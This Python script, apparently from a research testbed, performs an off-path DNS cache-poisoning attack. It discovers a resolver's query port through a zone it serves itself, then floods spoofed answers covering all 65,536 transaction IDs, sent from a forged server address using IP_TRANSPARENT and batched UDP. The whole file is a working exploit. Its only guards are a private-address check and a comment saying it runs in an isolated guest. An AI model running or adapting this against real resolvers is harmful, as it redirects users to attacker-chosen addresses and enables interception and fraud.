"""Forges DNS answers as somebody off the path must: without having seen the question.

    forge.py RESOLVER OWN_NAME KNOWN_NAME NAME SERVER ADDRESS TTL_S

Learns from which port the resolver asks, by a question about OWN_NAME, whose zone this program
serves; has it learn where KNOWN_NAME's zone is; then asks for NAME of the same zone, and sends one
answer in SERVER's name for each of the 65,536 message numbers, all to that port. Prints what it
does as JSON, one object a line.

It sends to private addresses alone, and the experiment that starts it runs in a guest, which has
no way out.
"""

import ipaddress
import socket
import struct
import sys
import time

if __name__ == "__main__":  # started as a file: our package is two folders up
    sys.path.insert(0, __file__.rsplit("/", 3)[0])

from testbed.programs.telling import tell

_PORT, _NUMBERS = 53, 1 << 16
_A, _IN = 1, 1
_QUERY, _ANSWER = 0x0100, 0x8400
"""Flags: recursion desired; an answer with authority (RFC 1035 §4.1.1)."""

_IP_TRANSPARENT, _UDP_SEGMENT = 19, 103
_BATCH, _PAUSE_S = 64, 100e-6
"""Number of answers in one call, then a pause: the resolver's socket holds some hundreds."""

_LEAD_S = 1e-3
"""From our question to the forged answers: the resolver must have asked in turn."""


def main(resolver: str, own_name: str, known_name: str, name: str, *lie: str) -> None:
    """Learns the port, asks, forges."""
    server, address, ttl_s = lie
    for target in (resolver, server):
        if not ipaddress.ip_address(target).is_private:
            raise SystemExit(f"{target}: is not a private address")
    port = learn_port(resolver, own_name)
    ask(resolver, known_name)
    tell(port=port)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.sendto(message(_QUERY, name), (resolver, _PORT))
        time.sleep(_LEAD_S)
        answer = message(_ANSWER, name, address, int(ttl_s))
        tell(sent=forge((server, _PORT), (resolver, port), answer))


def learn_port(resolver: str, own_name: str) -> int:
    """The port from which the resolver asks our zone's server, which is this program."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.bind(("", _PORT))
        own.settimeout(10)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.settimeout(10)
            asker.sendto(message(_QUERY, own_name), (resolver, _PORT))
            asked, source = own.recvfrom(512)
            own.sendto(asked[:2] + message(_ANSWER, own_name, "192.0.2.1")[2:], source)
            asker.recv(512)  # so that it is done with us
    return int(source[1])


def ask(resolver: str, name: str) -> None:
    """Asks as a client does, and waits for the answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(10)
        asker.sendto(message(_QUERY, name), (resolver, _PORT))
        asker.recv(512)


def forge(source: tuple[str, int], target: tuple[str, int], answer: bytes) -> int:
    """Sends the answer once for each number, from an address that is not ours."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, _IP_TRANSPARENT, 1)
        sock.setsockopt(socket.IPPROTO_UDP, _UDP_SEGMENT, len(answer))
        sock.bind(source)
        sock.connect(target)
        for first in range(0, _NUMBERS, _BATCH):
            numbers = range(first, first + _BATCH)
            sock.send(b"".join(struct.pack("!H", n) + answer[2:] for n in numbers))
            time.sleep(_PAUSE_S)
    return _NUMBERS


def message(flags: int, name: str, address: str = "", ttl_s: int = 0) -> bytes:
    """A question about an IPv4 address, or its answer; its number is 0 (RFC 1035 §4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    head = struct.pack("!6H", 0, flags, 1, int(bool(address)), 0, 0)
    question = labels + struct.pack("!BHH", 0, _A, _IN)
    if not address:
        return head + question
    record = struct.pack("!HHHIH", 0xC00C, _A, _IN, ttl_s, 4) + socket.inet_aton(address)
    return head + question + record


if __name__ == "__main__":
    main(*sys.argv[1:])
